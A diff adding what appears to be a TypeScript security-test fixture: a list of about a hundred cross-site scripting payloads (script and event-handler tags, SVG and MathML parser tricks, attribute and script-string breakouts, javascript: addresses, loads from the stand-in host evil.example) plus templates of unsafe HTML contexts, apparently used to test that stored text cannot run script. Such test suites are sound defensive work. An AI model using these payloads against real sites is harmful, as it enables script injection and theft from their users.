@@ -1,0 +1,142 @@
+/**
+ * Texts that run a script where they are put into a page as they are. Each calls `hit('TOKEN')`, or asks a foreign host for
+ * /TOKEN; `TOKEN` is replaced by what tells payload and place. Every one of them is alive: the control page of
+ * test/security/stored-scripts.test.ts runs all of them in one of the contexts in which careless pages put text.
+ */
+const CALL = "hit('TOKEN')";
+const QUOTED = 'hit(&quot;TOKEN&quot;)';
+const FOREIGN = 'http://evil.example/TOKEN';
+
+/** Elements that run by themselves. */
+const ELEMENTS = [
+  `<script>${CALL}</script>`,
+  `<SCRIPT>${CALL}</SCRIPT>`,
+  `<script\n>${CALL}</script\n>`,
+  `<script/x>${CALL}</script>`,
+  `<script type=module>${CALL}</script>`,
+  `<script type="text/javascript">${CALL}</script>`,
+  `<script src="data:text/javascript,${CALL}"></script>`,
+  `<script src="${FOREIGN}"></script>`,
+  `<script>/*</script>*/</script><script>${CALL}</script>`,
+  `<img src=x onerror=${CALL}>`,
+  `<img src=x onerror="${CALL}">`,
+  `<IMG SRC=x ONERROR=${CALL}>`,
+  `<img src=x\tonerror\t=\t${CALL}>`,
+  `<img src=x onerror=${QUOTED}>`,
+  `<img src=x onerror=&#104;it('TOKEN')>`,
+  `<img src=x onerror=\\u0068it('TOKEN')>`,
+  `<img src=x:x onerror=hit\`TOKEN\`>`,
+  `<img srcset=x onerror=${CALL}>`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" onload=${CALL}>`,
+  `<image src=x onerror=${CALL}>`,
+  `<svg onload=${CALL}>`,
+  `<svg/onload=${CALL}>`,
+  `<svg><script>${CALL}</script></svg>`,
+  `<svg><script>&#104;it('TOKEN')</script></svg>`,
+  `<svg><image href=x onerror=${CALL}></svg>`,
+  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
+  `<svg><set onbegin=${CALL} attributeName=x dur=1s>`,
+  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
+  `<svg><desc><img src=x onerror=${CALL}></desc></svg>`,
+  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
+  `<math><mtext></p><img src=x onerror=${CALL}></math>`,
+  `<math><style><img src=x onerror=${CALL}></style></math>`,
+  `<iframe onload=${CALL}></iframe>`,
+  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${CALL}"></iframe>`,
+  `<iframe src="${FOREIGN}"></iframe>`,
+  `<object data="${FOREIGN}"></object>`,
+  `<embed src="${FOREIGN}">`,
+  `<video src=x onerror=${CALL}></video>`,
+  `<video><source src=x onerror=${CALL}></video>`,
+  `<audio src=x onerror=${CALL}></audio>`,
+  `<video poster="${FOREIGN}"></video>`,
+  `<input autofocus onfocus=${CALL}>`,
+  `<textarea autofocus onfocus=${CALL}></textarea>`,
+  `<select autofocus onfocus=${CALL}></select>`,
+  `<button autofocus onfocus=${CALL}>`,
+  `<a href=x autofocus onfocus=${CALL}>x</a>`,
+  `<div tabindex=0 autofocus onfocus=${CALL}>x</div>`,
+  `<input type=image src=x onerror=${CALL}>`,
+  `<details open ontoggle=${CALL}>x</details>`,
+  `<style onload=${CALL}></style>`,
+  `<style>@import '${FOREIGN}';</style>`,
+  `<style>*{background:url(${FOREIGN})}</style>`,
+  `<div style="background:url(${FOREIGN})">x</div>`,
+  `<link rel=stylesheet href="${FOREIGN}">`,
+  `<link rel=stylesheet href="data:text/css," onload=${CALL}>`,
+  `<link rel=preload as=image href="${FOREIGN}">`,
+  `<img src="${FOREIGN}">`,
+  `<img srcset="${FOREIGN} 1x">`,
+  `<picture><source srcset="${FOREIGN}"><img></picture>`,
+  `<svg><image href="${FOREIGN}"></svg>`,
+  `<table background="${FOREIGN}"><td>x</table>`,
+  `<body background="${FOREIGN}">`,
+  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
+  `<meta http-equiv="refresh" content="0; url=${FOREIGN}">`,
+  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
+  `<!--><img src=x onerror=${CALL}>-->`,
+  `<x onfocus=${CALL} tabindex=1 autofocus>`,
+  `<p><style><!--</style><img src=x onerror=${CALL}>--></style>`,
+  `<<script>${CALL}//<</script>`,
+  `<div contenteditable autofocus onfocus=${CALL}>x</div>`,
+  `<style>@keyframes k{}</style><b style="animation:k" onanimationstart=${CALL}>x</b>`,
+  `<div onanimationend=${CALL} style="animation:x .01s">x</div><style>@keyframes x{to{left:1px}}</style>`,
+];
+
+/** What breaks out of the place that it was put into. */
+const ESCAPES = [
+  `"><script>${CALL}</script>`,
+  `'><script>${CALL}</script>`,
+  `"><img src=x onerror=${CALL}>`,
+  `" autofocus onfocus="${CALL}" x="`,
+  `' autofocus onfocus='hit(&quot;TOKEN&quot;)' x='`,
+  `x autofocus onfocus=${CALL} `,
+  `</textarea><script>${CALL}</script>`,
+  `</title><script>${CALL}</script>`,
+  `</style><script>${CALL}</script>`,
+  `--><script>${CALL}</script>`,
+  `</script><script>${CALL}</script>`,
+  `</option></select><img src=x onerror=${CALL}>`,
+  `</pre></code><img src=x onerror=${CALL}>`,
+  `";${CALL};//`,
+  `';hit("TOKEN");//`,
+  `\\";${CALL};//`,
+  `\${${CALL}}`,
+];
+
+/** What runs where it becomes an address. */
+const ADDRESSES = [
+  `javascript:${CALL}`,
+  `JaVaScRiPt:${CALL}`,
+  ` javascript:${CALL}`,
+  `java\nscript:${CALL}`,
+  `java\tscript:${CALL}`,
+  `\u0001javascript:${CALL}`,
+  `javascript://x%0a${CALL}`,
+  `data:text/html,<script>${CALL}</script>`,
+  `vbscript:${CALL}`,
+];
+
+/** `vbscript:` runs nowhere any more, and is judged by its scheme. */
+export const PAYLOADS: readonly string[] = [...ELEMENTS, ...ESCAPES, ...ADDRESSES];
+
+/** The places in which careless pages put text as it is. */
+export const CARELESS: Readonly<Record<string, (text: string) => string>> = {
+  text: (text) => `<p>${text}</p>`,
+  'a quoted attribute': (text) => `<input value="${text}">`,
+  'an attribute in single quotes': (text) => `<input value='${text}'>`,
+  'a bare attribute': (text) => `<input value=${text}>`,
+  'a text area': (text) => `<textarea>${text}</textarea>`,
+  'a choice': (text) => `<select><option>${text}</option></select>`,
+  'a title': (text) => `<title>${text}</title>`,
+  'a style': (text) => `<style>/* ${text} */</style>`,
+  'a comment': (text) => `<!-- ${text} -->`,
+  'a script in double quotes': (text) => `<script>var x = "${text}";</script>`,
+  'a script in single quotes': (text) => `<script>var x = '${text}';</script>`,
+  'a template of a script': (text) => `<script>var x = \`${text}\`;</script>`,
+  'a comment of a script': (text) => `<script>// ${text}\n</script>`,
+  'a script with escaped quotes': (text) => `<script>var x = "${text.replaceAll('"', '\\"')}";</script>`,
+  'an address': (text) => `<a href="${text}">x</a>`,
+};
